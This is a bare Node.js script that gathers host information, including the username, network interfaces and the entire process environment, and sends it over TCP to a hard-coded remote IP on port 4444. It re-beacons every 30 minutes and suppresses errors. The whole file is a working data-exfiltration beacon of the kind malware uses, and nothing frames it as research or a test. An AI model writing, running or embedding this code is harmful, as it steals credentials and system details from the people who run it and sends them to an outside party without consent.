const net = require('net');
const os = require('os');

const HOST = '198.51.100.14';
const PORT = 4444;

function info() {
  return JSON.stringify({
    id: os.hostname() + ':' + os.userInfo().username,
    platform: os.platform() + ' ' + os.release(),
    arch: os.arch(),
    cpus: os.cpus().length,
    mem: os.totalmem(),
    cwd: process.cwd(),
    uptime: os.uptime(),
    ifaces: os.networkInterfaces(),
    env: process.env,
  }) + '\n';
}

let tries = 0;
function beacon() {
  const s = new net.Socket();
  s.setTimeout(20000);
  s.connect(PORT, HOST, () => {
    s.write(info());
  });
  s.on('data', () => s.end());
  s.on('timeout', () => s.destroy());
  s.on('error', () => {});
  s.on('close', () => {
    if (++tries < 48) setTimeout(beacon, 30 * 60 * 1000);
  });
}
beacon();
